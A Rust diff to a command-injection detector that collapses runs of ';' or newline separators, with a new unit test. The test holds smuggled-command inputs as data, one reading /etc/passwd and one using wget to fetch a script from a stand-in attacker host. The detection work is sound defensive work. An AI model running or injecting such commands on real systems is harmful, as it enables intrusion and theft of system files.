@@ -404,6 +404,13 @@ fn separators(
             i += 1;
             continue;
         }
+        // Of a run of `;` or newlines only the last can be followed by a command: the others
+        // are followed by the next one. A value can be such a run from end to end.
+        if matches!(c, b';' | b'\n') {
+            while b.get(i + 1) == Some(&c) {
+                i += 1;
+            }
+        }
         let (sep, len) = match c {
             b'\'' | b'"' => {
                 q = Some(c);
@@ -824,6 +831,15 @@ mod tests {
 
     fn hit(v: &str) -> bool {
         detect(v, Strictness::Generic).is_some()
+    }
+
+    #[test]
+    fn a_run_of_separators_is_judged_by_its_last() {
+        assert!(hit("x;;;;;cat /etc/passwd"));
+        assert!(hit("report.pdf\n\n\nwget http://attacker.example/x.sh"));
+        assert!(!hit(&";".repeat(10_000)));
+        assert!(!hit(&"\n".repeat(10_000)));
+        assert!(!hit("first line;;\n\nsecond line"));
     }
 
     #[test]
